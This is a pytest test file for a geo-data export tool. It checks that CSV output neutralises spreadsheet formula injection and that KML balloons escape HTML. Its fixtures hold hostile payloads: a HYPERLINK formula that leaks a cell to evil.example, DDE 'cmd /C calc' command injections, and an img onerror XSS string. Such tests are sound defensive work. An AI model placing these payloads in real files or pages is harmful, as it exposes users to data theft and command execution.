"""Hostile names and notes in every table a journalist opens: spreadsheets run no formula, KML viewers render no markup."""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner

from geo.build import build_maps
from geo.cli import main
from geo.csvfile import FORMULA_TRIGGERS, safe_cell
from tests.layers import default_layers, write_layers

if TYPE_CHECKING:
    from pathlib import Path

FORMULAS = {
    "site-church": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "site-cemetery": "+cmd|' /C calc'!A0",
    "site-bridge": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NOTES = ["-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
MARKUP = '<img src=x onerror="alert(1)"><b>bold</b>'


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    layers = default_layers()
    for feature in layers["heritage_sites.geojson"]["features"]:
        feature["properties"]["name"] = FORMULAS[feature["properties"]["id"]]
        feature["properties"]["settlement"] = MARKUP
        feature["properties"]["Description"] = MARKUP
    for feature, note in zip(layers["communities.geojson"]["features"], NOTES):
        feature["properties"]["note"] = note
    layers["places.geojson"]["features"][0]["properties"]["name"] = MARKUP
    return write_layers(tmp_path / "layers", layers)


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_no_formula(paths: list[Path]) -> None:
    assert paths
    for path in paths:
        cells = _cells(path)
        running = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and safe_cell(c) != c]
        assert running == [], f"{path.name}: {running}"


def test_no_csv_cell_a_spreadsheet_would_run(hostile: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["export", "--data", str(hostile), "--out", str(tmp_path / "export"), "--format", "csv"])
    assert result.exit_code == 0, result.output
    build_maps(hostile, tmp_path / "maps", tiles="none")
    gaps = tmp_path / "gaps.csv"
    result = CliRunner().invoke(main, ["imagery", "gaps", "--data", str(hostile), "--csv", str(gaps)])
    assert result.exit_code == 0, result.output
    written = [*(tmp_path / "export").glob("*.csv"), *(tmp_path / "maps" / "data").glob("*.csv"), gaps]
    _assert_no_formula(written)
    # The values are all there, each behind one quote a spreadsheet hides.
    sites = _cells(tmp_path / "export" / "heritage_sites.csv")
    assert all("'" + name in sites for name in FORMULAS.values())
    assert all("'" + note in _cells(tmp_path / "export" / "communities.csv") for note in NOTES)
    assert "'" + FORMULAS["site-church"] in _cells(gaps)


def test_numbers_keep_their_sign() -> None:
    assert [safe_cell(v) for v in ("-12.5", "-3", "+", "-", "-1e3")] == ["-12.5", "-3", "'+", "'-", "-1e3"]


def test_kml_balloons_show_markup_as_text(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "export"
    result = CliRunner().invoke(main, ["export", "--data", str(hostile), "--out", str(out), "--format", "kml"])
    assert result.exit_code == 0, result.output
    namespace = {"k": "http://www.opengis.net/kml/2.2"}
    for path in out.glob("*.kml"):
        root = ElementTree.parse(path).getroot()
        for description in root.iterfind(".//k:description", namespace):
            # What a viewer renders as HTML holds no tag of the data's: only the package's own line breaks.
            html = (description.text or "").replace("<br>", "")
            assert "<" not in html, (path.name, html)
    sites = ElementTree.parse(out / "heritage_sites.kml").getroot()
    balloons = [d.text or "" for d in sites.iterfind(".//k:Placemark/k:description", namespace)]
    assert any("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in b for b in balloons)
    # A "Description" field in the data is text in ExtendedData, never the balloon.
    values = [v.text for v in sites.iterfind(".//k:Data[@name='Description']/k:value", namespace)]
    assert values and all(v == MARKUP for v in values)
    places = (out / "places.kml").read_text(encoding="utf-8")
    assert "<img" not in places and "&lt;img" in places
    # Every style's balloon shows only the escaped description, never the ExtendedData laid out as HTML.
    styles = sites.findall(".//k:Style", namespace)
    assert styles and all(s.findtext("k:BalloonStyle/k:text", namespaces=namespace) == "$[description]" for s in styles)
    assert all(p.findtext("k:styleUrl", namespaces=namespace) for p in sites.iterfind(".//k:Placemark", namespace))
